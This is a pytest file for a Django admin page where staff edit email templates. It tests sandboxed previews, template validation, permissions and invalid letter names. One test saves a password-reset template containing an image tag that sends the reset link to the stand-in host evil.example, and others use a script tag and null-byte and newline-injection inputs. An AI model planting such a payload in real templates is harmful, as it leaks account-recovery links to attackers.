"""Mail texts in the back office: looked at before they are saved, and what opens accounts is for admins."""

import html

import pytest
from django.contrib.admin.models import LogEntry
from django.test import Client as Browser

from notifications.letters import letters
from notifications.models import LetterText
from notifications.services.letters import default_words
from tests.factories import UserFactory

LIST = "/admin/notifications/lettertext/"
PAGE = f"{LIST}order_5Fconfirmed/change/"
SECRET = f"{LIST}password_5Freset/change/"

pytestmark = pytest.mark.django_db


def browser_of(role: str) -> Browser:
    browser = Browser()
    browser.force_login(UserFactory(roles=[role]))
    return browser


@pytest.fixture
def staff() -> Browser:
    return browser_of("staff")


def form(**parts: str) -> dict[str, str]:
    return {**default_words(letters["order_confirmed"])._asdict(), **parts}


def test_the_list_says_which_letters_were_changed(staff, django_assert_max_num_queries):
    staff.get(LIST)
    LetterText.objects.filter(pk="order_confirmed").update(subject="Hurra")
    LetterText.objects.create(name="of_a_letter_that_is_gone", text="Own")
    with django_assert_max_num_queries(10):
        page = staff.get(LIST)
    rows = {row.name: row.is_changed for row in page.context["cl"].queryset}
    assert rows == {name: name == "order_confirmed" for name in letters}
    assert "Hurra" in page.content.decode()


def test_a_letter_is_looked_at_before_it_is_saved(staff):
    shown = staff.post(PAGE, form(html='<p class="small">Merci</p><script>1</script>', _preview="1")).content.decode()
    _, _, frame = shown.partition("<iframe")
    frame, _, _ = frame.partition("</iframe>")
    assert 'sandbox=""' in frame
    assert frame.count(">") == 1  # all of the mail stands inside the attribute
    assert '<p class="small">Merci</p>' in html.unescape(frame)
    assert "We have your payment of 98.45 EUR" in shown
    assert not LetterText.objects.exists()


def test_own_words_are_saved_and_left_for_the_default(staff):
    words = form(subject="Hurra {{ order.number }}", text="Merci!\r\nÀ bientôt")
    assert staff.post(PAGE, words).status_code == 302
    own = LetterText.objects.get()
    assert (own.subject, own.text, own.html) == ("Hurra {{ order.number }}", "Merci!\nÀ bientôt", "")
    assert LogEntry.objects.get().object_id == "order_confirmed"
    assert "Hurra {{ order.number }}" in staff.get(PAGE).content.decode()

    back = staff.post(PAGE, {**words, "_default": "1"})
    assert "Hurra" not in back.content.decode()
    assert LetterText.objects.get().is_changed  # until it is saved
    assert staff.post(PAGE, form(text=back.context["form"]["text"].value().replace("\n", "\r\n"))).status_code == 302
    assert not LetterText.objects.get().is_changed


@pytest.mark.parametrize(
    ("part", "source", "sentence"),
    [
        ("html", "{{ order.naame }}", "There is no variable “order.naame” in this mail."),
        ("text", "{% include 'x' %}", "The tag “include” is not offered here"),
        ("subject", "{% if is_free %}Free{% endif %}", "Nothing is left"),
        ("text", "x" * 20_001, "at most 20000 characters"),
        ("subject", "x\x00", "Null characters"),
        ("html", "", "required"),
    ],
)
def test_what_cannot_be_sent_is_not_saved(staff, part, source, sentence):
    for button in ("_preview", "_save"):
        page = staff.post(PAGE, form(**{part: source, button: "1"}))
        assert page.status_code == 200
        assert sentence in html.unescape(page.content.decode())
    assert not LetterText.objects.exists()


def test_words_that_a_release_made_void_can_still_be_repaired(staff):
    LetterText.objects.create(name="order_confirmed", html="{{ gone }}")
    page = html.unescape(staff.get(PAGE).content.decode())
    assert "no variable “gone”" in page
    assert "{{ gone }}" in page
    assert "<iframe" not in page


def test_only_admins_word_a_letter_whose_link_opens_an_account(staff):
    words = {**default_words(letters["password_reset"])._asdict(), "html": '<img src="//evil.example/?{{ link }}">'}
    assert "only admins" in staff.get(SECRET).content.decode()
    for button in ("_save", "_preview", "_default"):
        assert staff.post(SECRET, {**words, button: "1"}).status_code == 403
    assert browser_of("admin").post(SECRET, words).status_code == 302
    assert "evil" in LetterText.objects.get().html


def test_whoever_has_no_business_here_stays_out():
    editor = browser_of("catalog_editor")
    assert editor.get(LIST).status_code == 403
    assert editor.get(PAGE).status_code == 403
    assert Browser().post(PAGE, form()).status_code == 302
    assert not LetterText.objects.exists()


@pytest.mark.parametrize("name", ["nothing", "9" * 300, "%00", "order_confirmed%0A"])
def test_a_letter_that_is_not_there(staff, name):
    assert staff.get(f"{LIST}{name}/change/").status_code == 404


def test_letters_are_neither_added_nor_deleted(staff):
    admin = browser_of("admin")
    assert admin.get(f"{LIST}add/").status_code == 403
    assert admin.post(f"{LIST}order_5Fconfirmed/delete/").status_code == 403
